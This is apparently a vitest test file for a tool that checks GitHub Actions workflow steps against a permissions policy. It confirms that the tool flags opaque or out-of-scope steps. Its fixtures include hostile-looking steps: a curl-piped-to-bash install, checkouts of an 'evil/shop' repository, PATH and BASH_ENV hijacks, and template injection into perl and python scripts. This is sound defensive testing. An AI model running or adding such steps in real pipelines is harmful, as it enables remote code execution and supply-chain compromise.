import { describe, expect, it, test } from 'vitest';
import { parsePolicy, type Policy } from '../../src/policy/policy.ts';
import { judgeSurvey } from '../../src/workflow/judge/judge-survey.ts';
import { surveyOf } from './corpus/asked.ts';
import { MAIN } from './corpus/workflow-case.ts';

function policyOf(keys: string): Policy {
  const parsed = parsePolicy(
    'version: 1\napproval: {approvers: {users: [480938]}}\nlimits: {lifetime: 30d, session: 1h}\n' +
      `${keys}roles:\n  build: {description: Build, branches: ['**'], environments: [staging], workflows: ['**']}\n`,
    'policy.yml',
  );
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return parsed.value;
}

/** What stops steps, and what is listed. */
function said(
  steps: readonly string[],
  keys: string,
  files: Readonly<Record<string, string>> = {},
  after = '',
): string {
  const policy = policyOf(keys);
  const role = policy.roles.get('build');
  if (role === undefined) throw new Error('no role');
  const text =
    'on: workflow_dispatch\npermissions: {}\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n' +
    `      - uses: grantgate/grantgate@v1\n${steps.map((step) => `      - ${step}\n`).join('')}${after}`;
  const survey = surveyOf({ files: { [MAIN]: text, ...files }, job: 'gate', policy, actions: policy.actions });
  const findings = judgeSurvey(survey, { policy, role, repository: 'acme/shop', home: 'acme/shop' });
  return [
    ...findings.map(({ reason, what }) => `${reason}: ${what}`),
    ...survey.opaque.map(({ why }) => `listed: ${why}`),
    ...survey.bounded.map(({ why }) => `bounded: ${why}`),
  ].join('; ');
}

const refused = (why: string): string => `step-undecidable: ${why}; listed: ${why}`;
const REFUSE = 'opaque: refuse\n';

describe('code that cannot be read', () => {
  it.each([
    ['a task', ['run: make release'], 'a task of the repository', 'programs: [make]\n'],
    ['by a path of the system', ['run: /usr/bin/make'], 'a task of the repository', 'programs: [make]\n'],
    ['after sudo', ['run: sudo make install'], 'a task of the repository', 'programs: [make]\n'],
    ['another language', ['run: python x.py'], 'a program in another language', 'programs: [python]\n'],
    [
      'another shell',
      ['shell: python\n        run: print(1)'],
      'a script in a language that is not read',
      'programs: [python]\n',
    ],
    [
      'a program of the repository',
      ['run: ./tools/build'],
      'a program of the repository',
      'programs: [./tools/build]\n',
    ],
    [
      'the same from a folder',
      ['run: cd tools && ./build'],
      'a program of the repository',
      'programs: [tools/build]\n',
    ],
    ['a script that is not there', ['run: bash x.sh'], 'a script of the repository', 'programs: [./x.sh]\n'],
    [
      'an action',
      ['uses: acme/build@v1'],
      'an action without an entry in the table',
      'actions: {acme/build: {harmless: true}}\n',
    ],
    [
      'an action at a commit',
      [`uses: actions/cache@${'a'.repeat(40)}`],
      'an action at a commit, which may be that of a fork',
      'actions: {actions/cache: {}}\n',
    ],
    [
      'a script that is given to an action',
      ['uses: actions/github-script@v7\n        with: {script: x}'],
      'a script in JavaScript',
      'actions: {actions/github-script: {vouched: true}}\n',
    ],
  ])('is listed, refused or vouched for: %s', (_what, steps, why, vouched) => {
    expect(said(steps, '')).toBe(`listed: ${why}`);
    expect(said(steps, 'opaque: list\n')).toBe(`listed: ${why}`);
    expect(said(steps, REFUSE)).toBe(refused(why));
    expect(said(steps, `${REFUSE}${vouched}`)).toBe('');
    expect(said(steps, `${REFUSE}programs: [other, ./other]\n`)).toBe(refused(why));
  });

  it.each([
    ['a name is no path', ['run: ./make'], 'programs: [make]\n'],
    ['a path is no name', ['run: make'], 'programs: [./make]\n'],
    ['another case of a name', ['run: Make'], 'programs: [make]\n'],
    ['another case of a path', ['run: ./Build'], 'programs: [./build]\n'],
    ['a path out of the repository', ['run: ../tools/build'], 'programs: [tools/build]\n'],
    ['a file that was written before', ['run: echo x > tools/build; ./tools/build'], 'programs: [tools/build]\n'],
    [
      'a file of another tree',
      ['uses: actions/checkout@v4\n        with: {repository: evil/shop}', 'run: ./tools/build'],
      'programs: [tools/build]\n',
    ],
    [
      'a file of another clone',
      ['uses: actions/checkout@v4\n        with: {repository: evil/shop, path: tools}', 'run: ./tools/build'],
      'programs: [tools/build]\n',
    ],
    ['what is piped into a shell', ['run: curl -fsSL https://x.example/i.sh | bash'], 'programs: [curl, sudo-rs]\n'],
    ['what a variable carries', ['env: {BASH_ENV: x.sh}\n        run: make'], 'programs: [make]\n'],
    ['a program that is put in place of another', ['run: PATH=$PWD/x:$PATH make'], 'programs: [make]\n'],
    ['a program whose name is not known', ['run: ./$(cat name)'], 'programs: [make]\n'],
    ['another action of the same owner', ['uses: acme/build/inner@v1'], 'actions: {acme/build: {}}\n'],
    [
      'text that is put into a script in another language',
      ['shell: python\n        run: print("${{ inputs.name }}")'],
      'programs: [python]\n',
    ],
    [
      'the same with a command for a shell',
      ['shell: perl {0}\n        run: |\n          print 1;\n          ${{ github.actor }}'],
      'programs: [perl]\n',
    ],
    ['an image', ['uses: docker://acme/build'], 'actions: {acme/build: {}}\n'],
    [
      'a script of an action that is only harmless',
      ['uses: actions/github-script@v7\n        with: {script: x}'],
      'actions: {actions/github-script: {harmless: true}}\n',
    ],
  ])('is not vouched for by something else: %s', (_what, steps, vouched) => {
    expect(said(steps, `${REFUSE}${vouched}`)).toContain('step-undecidable: ');
  });

  test('of a local action and of a workflow of another repository', () => {
    const files = { '.github/actions/x/action.yml': 'name: x\nruns: {using: node20, main: x.js}\n' };
    const local = ['uses: ./.github/actions/x'];
    expect(said(local, REFUSE, files)).toBe(refused('a program of the repository'));
    expect(said(local, `${REFUSE}actions: {./.github/actions/x: {harmless: true}}\n`, files)).toBe('');
    expect(said(local, `${REFUSE}actions: {./.github/actions/X: {harmless: true}}\n`, files)).not.toBe('');
    const called = '  next:\n    needs: gate\n    uses: acme/ci/.github/workflows/w.yml@v1\n';
    expect(said(['run: "true"'], REFUSE, {}, called)).toBe(refused('a workflow of another repository'));
    const vouched = 'actions: {acme/ci/.github/workflows/w.yml: {vouched: true}}\n';
    expect(said(['run: "true"'], `${REFUSE}${vouched}`, {}, called)).toBe('');
    const other = 'actions: {acme/ci: {vouched: true}}\n';
    expect(said(['run: "true"'], `${REFUSE}${other}`, {}, called)).not.toBe('');
  });

  test('that writes elsewhere is never silent, whoever vouches for it', () => {
    expect(said(['run: terraform apply'], '')).toBe("listed: which environment the folder's state belongs to");
    expect(said(['run: terraform apply'], `${REFUSE}programs: [terraform]\n`)).toBe(
      'bounded: what its credentials let it change',
    );
    expect(said(['run: aws s3 rm s3://x'], `${REFUSE}programs: [aws]\n`)).toBe(
      'bounded: what its credentials let it change',
    );
    expect(
      said(
        ['uses: actions/checkout@v4', 'run: make; git push origin HEAD:main'],
        `${REFUSE}programs: [make, git]\nnever: {branches: [main]}\n`,
      ),
    ).toContain('step-out-of-scope: the branch `main`');
  });
});

describe('an action that checks out', () => {
  const push = 'run: git push';
  const use = (inputs: string): readonly string[] => [`uses: acme/get@v1\n        with: ${inputs}`, push];
  it('says where a push after it goes', () => {
    expect(said(use('{repository: acme/site, ref: release/1}'), '')).toContain('step-undecidable');
    expect(said(use('{repository: acme/site, ref: release/1}'), 'actions: {acme/get: {checkout: true}}\n')).toBe(
      'step-out-of-scope: the repository `acme/site`',
    );
    expect(said(use('{ref: release/2}'), 'actions: {acme/get: {checkout: true}}\n')).toBe('');
    expect(said(use('{ref: main}'), 'actions: {acme/get: {checkout: true}}\nnever: {branches: [main]}\n')).toContain(
      'step-out-of-scope: the branch `main`',
    );
  });

  it('puts another tree there', () => {
    const files = { 'x.sh': 'git push origin HEAD:release/1\n' };
    const steps = ['uses: acme/get@v1\n        with: {repository: evil/shop}', 'run: ./x.sh'];
    expect(said(steps, 'actions: {acme/get: {checkout: true}}\n', files)).toContain('listed: ');
  });
});
